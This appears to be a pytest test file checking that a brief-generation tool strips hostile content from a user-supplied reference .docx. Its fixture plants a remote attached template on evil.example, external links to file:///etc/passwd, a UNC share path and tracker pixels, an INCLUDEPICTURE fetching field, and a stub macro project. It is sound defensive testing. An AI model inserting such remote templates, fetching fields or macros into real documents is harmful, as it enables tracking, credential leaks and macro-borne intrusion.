"""A reference document from someone else: its styles and header travel into every output, its links and macros don't."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from briefgen.brief.check import check_file
from briefgen.cli import main
from briefgen.compose.composer import compose
from briefgen.writers import RenderOptions
from briefgen.writers.docx.writer import ReferenceSanitised, write

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = R + "/"
HOSTILE_TARGETS = ("https://evil.example/house.dotm", "file:///etc/passwd", r"\\fileserver\share\logo.png",
                   "http://tracker.example/pixel.png")


@pytest.fixture(scope="module")
def rich(tmp_path_factory):
    from richbrief import make_rich_brief

    report = check_file(make_rich_brief(tmp_path_factory.mktemp("rich")))
    return {"doc": compose(report.brief)}


def _add_rels(xml: bytes, rels: list[str]) -> bytes:
    return xml.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")


def hostile_reference(path: Path) -> Path:
    """A real .docx (made by python-docx) with a house header, then external links, a field and macros added."""
    plain = io.BytesIO()
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "House header"
    d.styles["Heading 1"].font.name = "Georgia"
    d.save(plain)
    src = zipfile.ZipFile(io.BytesIO(plain.getvalue()))
    members = {name: src.read(name) for name in src.namelist()}
    members["word/_rels/settings.xml.rels"] = _add_rels(
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        [f'<Relationship Id="rId90" Type="{RT}attachedTemplate" Target="{HOSTILE_TARGETS[0]}" TargetMode="External"/>'])
    members["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rId90"/>',
                                          members["word/settings.xml"], count=1)
    members["word/_rels/document.xml.rels"] = _add_rels(members["word/_rels/document.xml.rels"], [
        f'<Relationship Id="rId91" Type="{RT}image" Target="{HOSTILE_TARGETS[1]}" TargetMode="External"/>',
        f'<Relationship Id="rId92" Type="{RT}image" Target="{HOSTILE_TARGETS[2]}" TargetMode="External"/>',
        '<Relationship Id="rId93" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>',
    ])
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 pretend OLE macro storage AutoOpen"
    members["word/_rels/vbaProject.bin.rels"] = _add_rels(
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        ['<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" '
         'Target="vbaData.xml"/>'])
    members["word/vbaData.xml"] = (b'<?xml version="1.0" encoding="UTF-8"?><wne:vbaSuppData '
                                   b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>'))
    header = next(n for n in members if re.fullmatch(r"word/header\d*\.xml", n))
    rels_name = header.replace("word/", "word/_rels/") + ".rels"
    members[rels_name] = _add_rels(members.get(rels_name) or (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'),
        [f'<Relationship Id="rId95" Type="{RT}hyperlink" Target="{HOSTILE_TARGETS[3]}" TargetMode="External"/>'])
    members[header] = members[header].replace(b"</w:p>", (
        b'<w:hyperlink r:id="rId95"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://tracker.example/field.png" \\d </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in members.items():
            out.writestr(name, data)
    return path


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def test_external_links_macros_and_fetching_fields_are_removed_and_the_house_style_kept(rich, tmp_path):
    ref = hostile_reference(tmp_path / "house.docx")
    with pytest.warns(ReferenceSanitised) as caught:
        data = write(rich["doc"], RenderOptions(reference_docx=ref))
    members = _members(data)
    everything = b"".join(members.values())
    for target in (*HOSTILE_TARGETS, "tracker.example/field.png"):
        assert target.encode() not in everything
    # the brief's own links to its sources are the only external relationships left
    for name, blob in members.items():
        if name.endswith((".rels",)) and not re.search(r"(document|footnotes|endnotes)\.xml\.rels$", name):
            assert b'TargetMode="External"' not in blob, name
    assert not any("vba" in name.lower() for name in members)
    assert b"vbaProject" not in members["[Content_Types].xml"] and b"vbaData" not in members["[Content_Types].xml"]
    assert b"attachedTemplate" not in members["word/settings.xml"]
    assert b"INCLUDEPICTURE" not in everything
    # what a reference document is for stays: its styles and its header text
    out = docx.Document(io.BytesIO(data))
    assert out.styles["Heading 1"].font.name == "Georgia"
    assert "House header" in "\n".join(p.text for p in out.sections[0].header.paragraphs)
    message = str(caught[0].message)
    assert "attachedTemplate" in message and "file:///etc/passwd" in message and "vbaProject.bin" in message


def test_a_clean_reference_document_gives_no_warning(rich, tmp_path, recwarn):
    plain = tmp_path / "plain.docx"
    docx.Document().save(str(plain))
    write(rich["doc"], RenderOptions(reference_docx=plain))
    write(rich["doc"])
    assert not [w for w in recwarn if issubclass(w.category, ReferenceSanitised)]


def test_build_names_what_it_removed_on_stderr(brief_dir):
    ref = hostile_reference(brief_dir / "house.docx")
    result = CliRunner().invoke(main, ["build", str(brief_dir / "brief.yaml"), "-o", str(brief_dir / "out"),
                                       "-f", "docx", "--reference-docx", str(ref)])
    assert result.exit_code == 0, result.output
    assert re.search(r"warning: reference document .*house\.docx: removed \d+ item", result.stderr)
    members = _members(next((brief_dir / "out").glob("*.docx")).read_bytes())
    assert b"evil.example" not in b"".join(members.values())


def test_a_templates_reference_docx_is_sanitised_too(brief_dir):
    runner = CliRunner()
    house = brief_dir / "house"
    assert runner.invoke(main, ["templates", "init", str(house)]).exit_code == 0
    hostile_reference(house / "reference.docx")
    result = runner.invoke(main, ["build", str(brief_dir / "brief.yaml"), "-o", str(brief_dir / "out"),
                                  "-f", "docx", "--template", str(house)])
    assert result.exit_code == 0, result.output
    assert "vbaProject.bin" in result.stderr
    data = next((brief_dir / "out").glob("*.docx")).read_bytes()
    assert b"vbaProject" not in b"".join(_members(data).values())
